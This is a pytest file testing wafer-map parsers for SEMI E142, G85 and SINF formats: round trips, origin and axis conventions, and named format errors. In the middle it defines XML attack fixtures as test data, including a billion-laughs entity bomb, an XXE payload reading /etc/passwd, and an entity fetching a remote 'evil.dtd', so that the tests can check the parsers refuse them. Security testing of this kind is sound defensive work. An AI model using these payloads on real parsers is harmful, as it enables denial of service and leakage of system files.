"""SEMI E142 / G85 / SINF map files: round trips, conventions, the g85 oracle, unsafe and bad input."""

from __future__ import annotations

import io
import time

import g85
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend_fab.errors import MapFormatError
from backend_fab.io.maps import (
    BinCodeMap,
    BinDefinition,
    E142Document,
    G85Map,
    Layout,
    Overlay,
    ReferenceDevice,
    Substrate,
    SubstrateMap,
    TransferMap,
    read_e142,
    read_g85,
    read_sinf,
    write_e142,
    write_g85,
)
from backend_fab.io.maps._grid import AXIS_DIRECTIONS, ORIGIN_LOCATIONS, axis_direction

# --- strategies ----------------------------------------------------------------------------------


@st.composite
def die_frames(draw, *, max_wafers=3):
    """1-3 wafers of unique (x, y) die with bins 0..254 (Decimal holds 0..254 + null 255)."""
    rows = []
    for w in range(draw(st.integers(1, max_wafers))):
        cells = draw(
            st.sets(st.tuples(st.integers(-6, 6), st.integers(-6, 6)), min_size=1, max_size=40)
        )
        for i, (x, y) in enumerate(sorted(cells)):
            rows.append(
                {
                    "substrate_id": f"W{w:02d}",
                    "lot_id": "LOT1",
                    "x": x,
                    "y": y,
                    "bin": draw(st.integers(0, 254)),
                    "device_id": f"W{w}-{i}",
                }
            )
    return pl.DataFrame(rows, schema_overrides={"x": pl.Int32, "y": pl.Int32, "bin": pl.Int32})


def _codes_strategy(bin_type: str):
    alphabet = {
        "ASCII": st.sampled_from(list("0123456789ABCDEFGHJKX")),
        "Decimal": st.integers(0, 254).map(lambda v: f"{v:03d}"),
        "HexaDecimal": st.integers(0, 254).map(lambda v: f"{v:02X}"),
    }[bin_type]
    return alphabet


@st.composite
def g85_maps(draw):
    bin_type = draw(st.sampled_from(["ASCII", "Decimal", "HexaDecimal"]))
    null = {"ASCII": ".", "Decimal": "255", "HexaDecimal": "FF"}[bin_type]
    # the g85 package splits a Decimal row on spaces only when it has some: at least 2 columns
    n_rows, n_cols = draw(st.integers(1, 8)), draw(st.integers(2, 8))
    code = st.one_of(st.just(null), _codes_strategy(bin_type))
    rows = [[draw(code) for _ in range(n_cols)] for _ in range(n_rows)]
    used = sorted({c for row in rows for c in row if c != null})
    bins = [
        BinDefinition(
            code=c,
            quality="Pass" if i == 0 else "Fail",
            count=sum(row.count(c) for row in rows),
        )
        for i, c in enumerate(used)
    ]
    return G85Map(
        rows=rows,
        bin_type=bin_type,
        null_bin=null,
        bins=bins,
        map_attrs={
            "FormatRevision": "SEMI G85 0703",
            "SubstrateType": "Wafer",
            "SubstrateId": draw(st.from_regex(r"W[0-9]{2}", fullmatch=True)),
        },
        device_attrs={
            "LotId": "LOT7",
            "OriginLocation": str(draw(st.integers(0, 4))),
            "Orientation": draw(st.sampled_from(["0", "90", "180", "270"])),
        },
        reference_devices=draw(
            st.lists(st.tuples(st.integers(0, 9), st.integers(0, 9)), max_size=2)
        ),
    )


# --- E142 ----------------------------------------------------------------------------------------


@given(
    die=die_frames(),
    origin=st.sampled_from(ORIGIN_LOCATIONS),
    axis=st.sampled_from(AXIS_DIRECTIONS),
    bin_type=st.sampled_from(["Decimal", "HexaDecimal", "Integer2"]),
)
def test_e142_write_read_is_exact_in_every_convention(die, origin, axis, bin_type):
    sx = 1 if axis.endswith("Right") else -1
    sy = 1 if axis.startswith("Up") else -1
    if origin != "Center":
        # a corner origin holds only die on one side of it: shift the data into that quadrant
        cx = die.get_column("x") * sx
        cy = die.get_column("y") * sy
        shift_x = -cx.min() if origin.endswith("Left") else -cx.max()
        shift_y = -cy.min() if origin.startswith("Lower") else -cy.max()
        die = die.with_columns(
            ((cx + shift_x) * sx).cast(pl.Int32).alias("x"),
            ((cy + shift_y) * sy).cast(pl.Int32).alias("y"),
        )
    doc = E142Document.from_die(
        die,
        origin_location=origin,
        axis_direction=axis,
        bin_type=bin_type,
        bins=[BinDefinition(code="001" if bin_type == "Decimal" else "01", quality="Pass")],
        orientation=90.0,
        step_size=(3.5, 4.25),
    )
    data = write_e142(doc)
    back = read_e142(data)
    assert back == doc
    assert write_e142(back) == data
    flat = back.die().sort("substrate_id", "device_id")
    want = die.sort("substrate_id", "device_id")
    assert flat.get_column("data_x").to_list() == want.get_column("x").to_list()
    assert flat.get_column("data_y").to_list() == want.get_column("y").to_list()
    assert flat.get_column("bin").to_list() == want.get_column("bin").to_list()
    assert flat.get_column("device_id").to_list() == want.get_column("device_id").to_list()
    # canonical = data with the axis signs (backend_fab.layout rule)
    assert (flat.get_column("x") == flat.get_column("data_x") * sx).all()
    assert (flat.get_column("y") == flat.get_column("data_y") * sy).all()
    assert set(flat.get_column("pos_x")) == {"R" if sx > 0 else "L"}


E142_UPPER_RIGHT = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<MapData xmlns="urn:semi-org:xsd.E142-1.V1005.SubstrateMap">
<Layouts>
<Layout LayoutId="WaferMap" DefaultUnits="mm" TopLevel="true">
<Dimension X="1" Y="1" />
<DeviceSize X="200.000000" Y="200.000000" />
<ChildLayouts><ChildLayout LayoutId="LAYOUT" /></ChildLayouts>
</Layout>
<Layout LayoutId="LAYOUT" DefaultUnits="mm">
<Dimension X="4" Y="3" />
<StepSize X="0.630000" Y="0.640000" />
<ProductId>TESTDEVICE_00</ProductId>
</Layout>
</Layouts>
<Substrates>
<Substrate SubstrateType="Wafer" SubstrateId="W05"><LotId>LOT9</LotId><GoodDevices>6</GoodDevices></Substrate>
</Substrates>
<SubstrateMaps>
<SubstrateMap SubstrateType="Wafer" SubstrateId="W05" LayoutSpecifier="WaferMap/LAYOUT"
 Orientation="180" OriginLocation="UpperRight" AxisDirection="DownLeft">
<Overlay MapName="SortGrade" MapVersion="1">
<ReferenceDevices><ReferenceDevice Name="R1"><Coordinates X="0" Y="0"/></ReferenceDevice></ReferenceDevices>
<BinCodeMap BinType="Ascii" NullBin="." MapType="2DArray">
<BinDefinitions>
<BinDefinition BinCode="P" BinDescription="BIN1" BinQuality="Pass" />
<BinDefinition BinCode="X" BinCount="2" BinDescription="BIN0" BinQuality="Fail" />
<BinDefinition BinCode="R" BinDescription="REF" BinQuality="Reference" />
</BinDefinitions>
<BinCode>.PPR</BinCode>
<BinCode>PXPP</BinCode>
<BinCode>.PX.</BinCode>
</BinCodeMap>
</Overlay>
</SubstrateMap>
</SubstrateMaps>
</MapData>
"""


def test_e142_reads_an_upper_right_down_left_map_and_keeps_its_convention():
    doc = read_e142(E142_UPPER_RIGHT, name="wafer.xml")
    smap = doc.substrate_maps[0]
    assert (smap.origin_location, smap.axis_direction, smap.orientation) == (
        "UpperRight",
        "DownLeft",
        180.0,
    )
    die = doc.die()
    assert die.height == 9
    # the top-right cell is the origin: file (0, 0) and canonical (0, 0); it is the R device
    ref = die.filter(pl.col("bin_code") == "R").row(0, named=True)
    assert (ref["row"], ref["col"], ref["data_x"], ref["data_y"], ref["x"], ref["y"]) == (
        0,
        3,
        0,
        0,
        0,
        0,
    )
    # the X in the bottom row, third column: two cells left of and two below the origin
    bottom_x = die.filter((pl.col("bin_code") == "X") & (pl.col("row") == 2)).row(0, named=True)
    assert (bottom_x["data_x"], bottom_x["data_y"]) == (1, 2)  # x grows left, y grows down
    assert (bottom_x["x"], bottom_x["y"]) == (-1, -2)  # canonical: x right, y up
    assert bottom_x["bin_quality"] == "Fail" and bottom_x["lot_id"] == "LOT9"
    out = write_e142(doc)
    assert b'OriginLocation="UpperRight"' in out and b'AxisDirection="DownLeft"' in out
    assert b"<BinCode>.PPR</BinCode>" in out
    assert read_e142(out) == doc


def _strip_doc(*, fx: int = 1, fy: int = 0, strip_axis: str = "DownRight") -> E142Document:
    wafer = [["255", "001", "001"], ["001", "005", "001"], ["255", "001", "255"]]
    return E142Document(
        layouts=[Layout("Die", cols=3, rows=3), Layout("Strip", cols=2, rows=2)],
        substrates=[
            Substrate("Wafer", "W01", lot_id="FAB1"),
            Substrate("Strip", "A1-S001", lot_id="A1"),
        ],
        substrate_maps=[
            SubstrateMap(
                "Wafer",
                "W01",
                "Die",
                [
                    Overlay(
                        "BinCodeMap",
                        bin_code_map=BinCodeMap(
                            "Decimal",
                            "255",
                            wafer,
                            [BinDefinition("001", "Pass"), BinDefinition("005", "Fail")],
                        ),
                    )
                ],
                origin_location="Center",
                axis_direction="UpRight",
            ),
            SubstrateMap(
                "Strip",
                "A1-S001",
                "Strip",
                [
                    Overlay(
                        "XOut",
                        map_version="2",
                        reference_devices=[ReferenceDevice(0, 0, "fid", (1.5, 2.5))],
                        bin_code_map=BinCodeMap(
                            "ASCII", ".", [["1", "X"], ["1", "."]], [BinDefinition("X", "Fail")]
                        ),
                    ),
                    Overlay("Units", device_ids=[(0, 0, "U-1"), (1, 0, "U-2"), (0, 1, "U-3")]),
                    Overlay(
                        "TransferMap",
                        transfer_maps=[
                            TransferMap(
                                "Wafer",
                                "W01",
                                [(0, 1, 0, 0), (fx, fy, 1, 0), (-1, 0, 0, 1)],
                                from_layout_specifier="Die",
                            )
                        ],
                    ),
                ],
                origin_location="UpperLeft",
                axis_direction=strip_axis,
            ),
        ],
    )


def test_e142_transfer_map_round_trip_and_flattening():
    doc = _strip_doc()
    data = write_e142(doc)
    back = read_e142(data)
    assert back == doc
    t = back.transfers().sort("to_row", "to_col")
    assert t.select("from_data_x", "from_data_y").rows() == [(0, 1), (1, 0), (-1, 0)]
    # strip UpperLeft / DownRight: TX grows right, TY grows down; row 0 is the top row
    assert t.select("to_row", "to_col").rows() == [(0, 0), (0, 1), (1, 0)]
    assert set(t.get_column("from_lot_id")) == {"FAB1"} and set(t.get_column("to_lot_id")) == {"A1"}
    strip = back.die().filter(pl.col("substrate_type") == "Strip").sort("row", "col")
    assert strip.select("row", "col", "bin_code", "device_id").rows() == [
        (0, 0, "1", "U-1"),
        (0, 1, "X", "U-2"),
        (1, 0, "1", "U-3"),
    ]


def test_e142_transfer_to_a_missing_die_names_the_element():
    # wafer cell at canonical (-1, 1) is a null bin (top-left corner of the 3x3 map)
    bad = write_e142(_strip_doc(fx=-1, fy=1))
    with pytest.raises(MapFormatError) as err:
        read_e142(bad, name="strip.xml")
    msg = str(err.value)
    assert "strip.xml" in msg and "TransferMap[1]/T[2]" in msg and "FX=-1 FY=1" in msg
    assert "W01" in msg and "null-bin" in msg
    outside = write_e142(_strip_doc(fx=5, fy=0))
    with pytest.raises(MapFormatError, match=r"outside its 3 x 3 layout"):
        read_e142(outside, name="strip.xml")


def test_e142_dimension_disagreements_are_named():
    text = E142_UPPER_RIGHT.replace(b"<BinCode>PXPP</BinCode>", b"<BinCode>PXP</BinCode>")
    with pytest.raises(MapFormatError) as err:
        read_e142(text, name="w.xml")
    assert "w.xml" in str(err.value) and "BinCode[2]" in str(err.value)
    assert "3 codes" in str(err.value) and "Dimension X=4" in str(err.value)
    text = E142_UPPER_RIGHT.replace(b'<Dimension X="4" Y="3" />', b'<Dimension X="4" Y="4" />')
    with pytest.raises(
        MapFormatError, match=r"3 BinCode rows but Layout 'LAYOUT' has Dimension Y=4"
    ):
        read_e142(text, name="w.xml")
    text = E142_UPPER_RIGHT.replace(b'LayoutSpecifier="WaferMap/LAYOUT"', b'LayoutSpecifier="Nope"')
    with pytest.raises(MapFormatError, match=r"LayoutSpecifier 'Nope' names no Layout"):
        read_e142(text, name="w.xml")
    text = E142_UPPER_RIGHT.replace(b'AxisDirection="DownLeft"', b'AxisDirection="Sideways"')
    with pytest.raises(MapFormatError, match=r"AxisDirection 'Sideways'"):
        read_e142(text, name="w.xml")


def test_e142_two_die_into_one_strip_position_is_refused():
    doc = _strip_doc()
    doc.substrate_maps[1].overlays[2].transfer_maps[0].transfers[2] = (-1, 0, 1, 0)
    with pytest.raises(MapFormatError, match=r"TX=1 TY=0 already receives a device"):
        read_e142(write_e142(doc))


def test_truncated_xml_is_a_clear_error():
    for cut in (len(E142_UPPER_RIGHT) // 2, len(E142_UPPER_RIGHT) - 12):
        with pytest.raises(MapFormatError) as err:
            read_e142(E142_UPPER_RIGHT[:cut], name="cut.xml")
        assert "cut.xml" in str(err.value) and "truncated" in str(err.value)
    with pytest.raises(MapFormatError, match=r"cut.xml: malformed XML"):
        read_g85(write_g85(G85Map(rows=[["001"]]))[:-30], name="cut.xml")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<MapData><Layouts><Layout LayoutId="&lol9;"><Dimension X="1" Y="1"/></Layout></Layouts></MapData>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE MapData [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<MapData><Substrates><Substrate SubstrateType="Wafer" SubstrateId="&xxe;"/></Substrates></MapData>
"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE Maps [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<Maps/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Maps SYSTEM "http://example.invalid/g85.dtd">
<Maps/>
"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, XXE_PARAMETER, EXTERNAL_DTD])
@pytest.mark.parametrize("reader", [read_e142, read_g85])
def test_entity_attacks_are_refused_quickly(payload, reader):
    t0 = time.perf_counter()
    with pytest.raises(MapFormatError) as err:
        reader(payload, name="evil.xml")
    assert time.perf_counter() - t0 < 0.5
    msg = str(err.value)
    assert "evil.xml" in msg and "DOCTYPE" in msg and "refused" in msg
    assert "root:" not in msg  # nothing of /etc/passwd leaks into the message


# --- G85 -----------------------------------------------------------------------------------------


@given(m=g85_maps())
def test_g85_xml_and_ascii_round_trips_are_exact(m):
    data = write_g85(m)
    assert read_g85(data) == [m]
    assert write_g85(read_g85(data)) == data
    text = write_g85(m, ascii=True)
    assert read_g85(text) == [m]


def _g85_semantics(rows, null, bins):
    return (
        [[c for c in row] for row in rows],
        str(null),
        {str(code): bool(ok) for code, ok in bins.items()},
    )


@given(m=g85_maps())
def test_the_g85_package_reads_what_we_write(m):
    theirs = g85.read(io.BytesIO(write_g85(m)))
    assert len(theirs) == 1 and len(theirs[0].devices) == 1
    dev = theirs[0].devices[0]
    assert theirs[0].SubstrateId == m.substrate_id
    assert dev.LotId == "LOT7"
    assert dev.OriginLocation == int(m.device_attrs["OriginLocation"])
    assert float(dev.Orientation) == float(m.device_attrs["Orientation"])
    if m.bin_type == "Decimal":  # g85 turns Decimal codes into ints
        want = [[int(c) for c in row] for row in m.rows]
        assert dev.map == want and int(dev.NullBin) == int(m.null_bin)
        assert {int(k): v for k, v in dev.bin_pass.items()} == {
            int(b.code): b.quality == "Pass" for b in m.bins
        }
    else:
        assert dev.map == m.rows and str(dev.NullBin) == m.null_bin
        assert dev.bin_pass == {b.code: b.quality == "Pass" for b in m.bins}
    if m.reference_devices:
        assert dev.reference_xy == m.reference_devices[-1]  # g85 keeps the last one


@given(m=g85_maps())
def test_we_read_what_the_g85_package_writes(m):
    if m.bin_type == "Decimal":
        rows = [[int(c) for c in row] for row in m.rows]
        null, passes = int(m.null_bin), {int(b.code): b.quality == "Pass" for b in m.bins}
    else:
        rows, null, passes = m.rows, m.null_bin, {b.code: b.quality == "Pass" for b in m.bins}
    dev = g85.Device(
        BinType=m.bin_type,
        NullBin=null,
        LotId="LOT7",
        OriginLocation=int(m.device_attrs["OriginLocation"]),
        map=rows,
        bin_pass=passes,
    )
    out = io.BytesIO()
    g85.write([g85.Map(SubstrateType="Wafer", SubstrateId=m.substrate_id, devices=[dev])], out)
    (ours,) = read_g85(out.getvalue(), name="g85-package.xml")
    assert ours.rows == m.rows
    assert ours.bin_type == m.bin_type and ours.null_bin == m.null_bin
    assert {b.code: b.quality == "Pass" for b in ours.bins} == {
        b.code: b.quality == "Pass" for b in m.bins
    }
    assert ours.substrate_id == m.substrate_id and ours.lot_id == "LOT7"
    want = m.die().drop("map_name")
    assert ours.die().drop("map_name").equals(want)


def test_g85_dimensions_that_disagree_with_rows_are_named():
    m = G85Map(rows=[["001", "001"], ["001", "255"]])
    data = write_g85(m).replace(b'Rows="2"', b'Rows="3"')
    with pytest.raises(
        MapFormatError, match=r"map.xml: Map\[1\]/Device: Rows=3 but the data has 2"
    ):
        read_g85(data, name="map.xml")
    data = write_g85(m).replace(b"<Row>001 255</Row>", b"<Row>001 255 001</Row>")
    with pytest.raises(MapFormatError, match=r"Device/Data/Row\[2\]: 3 codes but Columns=2"):
        read_g85(data, name="map.xml")
    text = write_g85(m, ascii=True).replace(b"Columns: 2", b"Columns: 5")
    with pytest.raises(MapFormatError, match=r"map.txt: line \d+ \(row 1\): 2 codes but Columns=5"):
        read_g85(text, name="map.txt")


def test_g85_origin_conventions():
    rows = [["001", "002"], ["003", "004"]]
    for code, want in {
        "2": {"001": (0, 0), "004": (1, -1)},  # upper left: y grows down -> canonical y < 0
        "3": {"003": (0, 0), "002": (1, 1)},  # lower left
        "1": {"002": (0, 0), "003": (-1, -1)},  # upper right
    }.items():
        m = G85Map(rows=rows, device_attrs={"OriginLocation": code})
        die = m.die()
        got = {r["bin_code"]: (r["x"], r["y"]) for r in die.iter_rows(named=True)}
        for c, xy in want.items():
            assert got[c] == xy
    with pytest.raises(MapFormatError, match="OriginLocation '9'"):
        G85Map(rows=rows, device_attrs={"OriginLocation": "9"}).die()


# --- SINF ----------------------------------------------------------------------------------------

SINF = b"""DEVICE:AX100
LOT:LOT3
WAFER:07
FNLOC:180
ROWCT:3
COLCT:4
BCEQU:01 02
REFPX:-1
REFPY:1
DUTMS:mm
XDIES:3.5
YDIES:3.5
RowData:__ 01 0B __
RowData:01 02 @@ 1F
RowData:__ 01 01 __
"""


def test_sinf_reads_codes_quality_and_coordinates():
    m = read_sinf(SINF, name="w07.sinf")
    assert (m.lot_id, m.wafer_id, m.product, m.flat_location) == ("LOT3", "07", "AX100", 180)
    die = m.die().sort("row", "col")
    assert die.height == 8
    got = {(r["row"], r["col"]): r for r in die.iter_rows(named=True)}
    assert got[(0, 2)]["bin"] == 11 and got[(0, 2)]["bin_quality"] == "Fail"
    assert got[(1, 1)]["bin"] == 2 and got[(1, 1)]["bin_quality"] == "Pass"
    assert got[(1, 2)]["bin"] is None and got[(1, 2)]["bin_quality"] == "Skip"
    # top-left origin, y growing down (prober numbering): data (col, row), canonical y = -row
    assert (got[(2, 1)]["data_x"], got[(2, 1)]["data_y"]) == (1, 2)
    assert (got[(2, 1)]["x"], got[(2, 1)]["y"]) == (1, -2)


def test_sinf_dimension_errors_name_file_and_line():
    with pytest.raises(MapFormatError, match=r"w.sinf: ROWCT:4 but the file has 3 RowData lines"):
        read_sinf(SINF.replace(b"ROWCT:3", b"ROWCT:4"), name="w.sinf")
    with pytest.raises(MapFormatError, match=r"w.sinf: line 14 \(RowData 2\): 3 codes but COLCT:4"):
        read_sinf(SINF.replace(b"01 02 @@ 1F", b"01 02 @@"), name="w.sinf")
    with pytest.raises(MapFormatError, match=r"no RowData lines"):
        read_sinf(SINF.split(b"RowData")[0], name="w.sinf")


def test_axis_direction_of_tester_flags():
    assert axis_direction("R", "U") == "UpRight"
    assert axis_direction("L", "D") == "DownLeft"
    with pytest.raises(ValueError):
        axis_direction("X", "U")
